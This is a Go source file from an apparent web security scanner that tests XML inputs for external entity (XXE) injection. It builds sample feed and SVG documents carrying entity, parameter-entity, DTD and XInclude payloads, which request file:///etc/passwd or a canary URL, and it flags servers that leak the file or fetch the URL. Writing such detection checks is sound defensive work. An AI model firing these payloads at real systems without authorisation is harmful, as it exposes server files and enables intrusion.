package injections

import (
	"fmt"
	"regexp"
	"strings"

	"sealab/fuzz/review"
	"sealab/fuzz/review/client"
	"sealab/fuzz/review/inputs"
	"sealab/fuzz/review/jsondoc"
)

// xmlNames are parts of texts about inputs that take XML.
var xmlNames = []string{"xml", "opml", "svg", "rss", "atom", "soap", "saml", "kml", "gpx", "plist", "sitemap"}

// xmlDocuments are documents of usual kinds. %s stands for a text that a reader may show.
var xmlDocuments = []string{
	`<opml version="2.0"><head><title>%[1]s</title></head><body><outline text="sealab" xmlUrl="https://example.com/feed"/></body></opml>`,
	`<feed xmlns="http://www.w3.org/2005/Atom"><title>%[1]s</title><id>urn:sealab:1</id><entry><title>%[1]s</title><id>urn:sealab:2</id><summary>%[1]s</summary></entry></feed>`,
	`<rss version="2.0"><channel><title>%[1]s</title><link>https://example.com/</link><description>%[1]s</description><item><title>%[1]s</title></item></channel></rss>`,
	`<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><title>%[1]s</title><text>%[1]s</text></svg>`,
	`<sealab><name>%[1]s</name><title>%[1]s</title><text>%[1]s</text></sealab>`,
}

// textNode matches the text of an element without other elements.
var textNode = regexp.MustCompile(`>[^<>]*</`)

// documentsFor returns the documents that an input is tested with: the given one with its texts
// replaced if it is XML, or else usual ones.
func documentsFor(x inputs.Input) []string {
	given := strings.TrimSpace(x.Given)
	if !strings.HasPrefix(given, "<") {
		return xmlDocuments
	}
	if strings.HasPrefix(given, "<?") {
		_, given, _ = strings.Cut(given, "?>")
	}
	return []string{textNode.ReplaceAllString(strings.ReplaceAll(given, "%", "%%"), ">%[1]s</")}
}

// takesXML reports whether an input takes XML.
func takesXML(x inputs.Input) bool {
	about := x.Name + " " + x.Offer.Name + " " + x.Offer.Description
	for name, s := range jsondoc.Fields(x.Offer.Input) {
		about += " " + name + " " + s.About
	}
	return strings.HasPrefix(strings.TrimSpace(x.Given), "<") || client.Mentions(about, xmlNames)
}

// An externalEntity is a part of a document that reads a URL: the begin of the document and a text in
// it.
type externalEntity struct{ name, begin, text string }

var externalEntities = []externalEntity{
	{"an external entity", `<!DOCTYPE x [<!ENTITY e SYSTEM "%s">]>`, "&e;"},
	{"an external parameter entity", `<!DOCTYPE x [<!ENTITY %% e SYSTEM "%s"> %%e;]>`, "sealab"},
	{"an external document type", `<!DOCTYPE x SYSTEM "%s">`, "sealab"},
	{"an inclusion", "%.0s", `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="URL" parse="text"/>`},
}

// in returns a document with the entity.
func (e externalEntity) in(document, uri string) string {
	return fmt.Sprintf(e.begin, uri) + fmt.Sprintf(document, strings.ReplaceAll(e.text, "URL", uri))
}

// readsEntity reports whether a document makes the server read a file or, if it is on this machine,
// a URL.
func readsEntity(t *review.T, x inputs.Input) bool {
	if !takesXML(x) {
		return false
	}
	var c *inputs.Canary
	if t.Client.HTTP == nil || t.OnLoopback() {
		if c = inputs.NewCanary(t); c == nil {
			return false
		}
		defer c.Close()
	}
	for _, document := range documentsFor(x) {
		for _, e := range externalEntities {
			if includesFile(t, x, e, document) || c != nil && opensEntity(t, x, e, document, c) {
				return true
			}
		}
	}
	return false
}

// includesFile reports whether an entity shows a file, twice.
func includesFile(t *review.T, x inputs.Input, e externalEntity, document string) bool {
	a, shows := confirmedTwice(func(int) (client.Answer, bool) {
		a := x.Send(e.in(document, "file:///etc/passwd"))
		return a, inputs.PasswdLine.MatchString(a.ShownTexts())
	})
	if shows {
		x.Refute(t, review.Critical, e.name+" in XML shows a file of the server", "a file", a)
	}
	return shows
}

// opensEntity reports whether the server opens the URL of an entity, twice, and does not open a URL
// in the text of a document.
func opensEntity(t *review.T, x inputs.Input, e externalEntity, document string, c *inputs.Canary) bool {
	opens := func(number int, written func(uri string) string) (client.Answer, bool) {
		return c.Opens(inputs.CanaryURL, number, func(uri string) client.Answer { return x.Send(written(uri)) })
	}
	entity := func(uri string) string { return e.in(document, uri) }
	if _, does := opens(1, entity); !does {
		return false
	}
	if _, links := opens(2, func(uri string) string { return fmt.Sprintf(document, uri) }); links {
		return false
	}
	a, again := opens(3, entity)
	if again {
		x.Refute(t, review.Critical, e.name+" in XML makes the server open a URL", "a request", a)
	}
	return again
}
